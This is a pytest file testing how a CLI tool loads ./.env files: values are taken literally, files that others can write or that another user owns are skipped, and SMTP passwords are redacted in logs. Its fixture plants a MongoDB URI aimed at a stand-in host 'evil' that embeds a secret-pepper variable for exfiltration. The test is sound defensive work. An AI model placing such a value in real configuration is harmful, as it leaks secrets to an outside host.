"""How the command line reads ./.env (as written, and only the user's own) and names a database (never its password)."""

import os

import pytest

from entrypoints.cli.main import load_env_file
from entrypoints.cli.serve import redacted

PLANTED = "MEET_MONGODB_URI=mongodb://evil/?appname=${MEET_PEPPER}\n"


@pytest.fixture
def env_file(tmp_path, meet_env):
    meet_env({"MEET_PEPPER": "p" * 32})
    path = tmp_path / ".env"
    path.write_text(PLANTED)
    path.chmod(0o600)
    return path


def test_dotenv_values_are_taken_as_written_never_expanded_from_the_environment(env_file):
    load_env_file(env_file)

    assert os.environ["MEET_MONGODB_URI"] == "mongodb://evil/?appname=${MEET_PEPPER}"


@pytest.mark.parametrize("mode", [0o620, 0o602], ids=["group", "others"])
def test_a_dotenv_others_may_write_is_skipped_with_a_warning(env_file, mode, capsys):
    env_file.chmod(mode)

    load_env_file(env_file)

    assert "MEET_MONGODB_URI" not in os.environ
    warning = capsys.readouterr().err
    assert warning.startswith(f"meet: ignoring {env_file}: ")
    assert len(warning.splitlines()) == 1


def test_a_dotenv_of_another_user_is_skipped_with_a_warning(env_file, monkeypatch, capsys):
    someone_else = os.getuid() + 1
    monkeypatch.setattr(os, "getuid", lambda: someone_else)

    load_env_file(env_file)

    assert "MEET_MONGODB_URI" not in os.environ
    assert capsys.readouterr().err == f"meet: ignoring {env_file}: it belongs to another user\n"


def test_the_environment_wins_over_the_users_own_dotenv(env_file, monkeypatch):
    monkeypatch.setenv("MEET_MONGODB_URI", "mongodb://db1:27017")

    load_env_file(env_file)

    assert os.environ["MEET_MONGODB_URI"] == "mongodb://db1:27017"


def test_the_smtp_url_is_logged_without_its_password():
    assert redacted("smtp://meet:s3cret@mail.example:587?starttls=1") == "smtp://meet:***@mail.example:587?starttls=1"
    assert redacted("smtps://mail.example") == "smtps://mail.example"
